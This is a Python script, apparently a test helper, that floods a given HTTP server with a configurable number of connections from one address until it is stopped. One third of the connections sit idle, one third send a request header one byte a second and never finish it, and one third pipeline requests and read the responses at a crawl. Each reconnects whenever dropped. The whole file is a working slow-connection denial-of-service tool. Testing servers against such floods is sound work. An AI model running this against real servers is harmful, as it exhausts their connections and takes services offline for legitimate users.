"""Keep a thousand connections to a server open from one address, by three bad habits, until interrupted.

usage: hostile_flooder.py ADDRESS HOST PORT CONNECTIONS PATH

A third asks nothing, a third sends a request's head one byte a second and never ends it, a third asks for PATH several
times and reads it at little more than the lowest rate that a server puts up with. Who is sent home comes again after
about a second. Prints a line once every connection was tried, and a JSON object with what became of them at the end.
"""

from __future__ import annotations

import asyncio
import json
import random
import signal
import sys
from collections import Counter
from contextlib import suppress

_AGAIN_S = 1.0
# Small enough that the server's end fills: what the kernel holds would otherwise hide that nobody reads.
_BUFFER_BYTES = 4096
_READ_BYTES, _READ_S = 4096, 1.0
_AHEAD = 4


class Flood:
    """All connections of one flood. ``told`` counts attempts, those that ended or failed, and bytes that were read."""

    def __init__(self, place: tuple[str, int], address: str, path: str) -> None:
        self.told: Counter[str] = Counter(attempts=0, ended=0, read_bytes=0)
        self._place, self._address, self._path = place, address, path

    async def keep(self, number: int, tried: asyncio.Event) -> None:
        """One connection, and another one whenever the server ends it. Sets ``tried`` after the first attempt."""
        habit = (self._hold, self._half_a_head, self._read_slowly)[number % 3]
        # They do not come again all in one moment, and in every run at the same ones.
        chance = random.Random(number)  # noqa: S311 - nothing secret hangs on it
        while True:
            self.told["attempts"] += 1
            with suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(
                    *self._place, local_addr=(self._address, 0), limit=_BUFFER_BYTES
                )
                try:
                    tried.set()
                    await habit(reader, writer)
                finally:
                    writer.transport.abort()
            self.told["ended"] += 1
            tried.set()
            await asyncio.sleep(chance.uniform(0.5, 1.5) * _AGAIN_S)

    async def _hold(self, reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        await reader.read(1)

    async def _half_a_head(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(f"GET {self._path} HTTP/1.1\r\nHost: x\r\nX-Padding: ".encode())
        while not reader.at_eof():
            writer.write(b"a")
            await writer.drain()
            with suppress(TimeoutError):
                async with asyncio.timeout(_READ_S):
                    await reader.read(1)

    async def _read_slowly(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        request = f"GET {self._path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        writer.write(request * _AHEAD)
        await writer.drain()
        while data := await reader.read(_READ_BYTES):
            self.told["read_bytes"] += len(data)
            await asyncio.sleep(_READ_S)


async def _run(address: str, place: tuple[str, int], count: int, path: str) -> None:
    over = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, over.set)
    flood = Flood(place, address, path)
    tried = [asyncio.Event() for _ in range(count)]
    async with asyncio.TaskGroup() as group:
        keepers = [group.create_task(flood.keep(number, event)) for number, event in enumerate(tried)]
        for event in tried:
            await event.wait()
        print("flooding", flush=True)
        await over.wait()
        for keeper in keepers:
            keeper.cancel()
    print(json.dumps(flood.told), flush=True)


if __name__ == "__main__":
    _address, _host, _port, _count, _path = sys.argv[1:]
    asyncio.run(_run(_address, (_host, int(_port)), int(_count), _path))
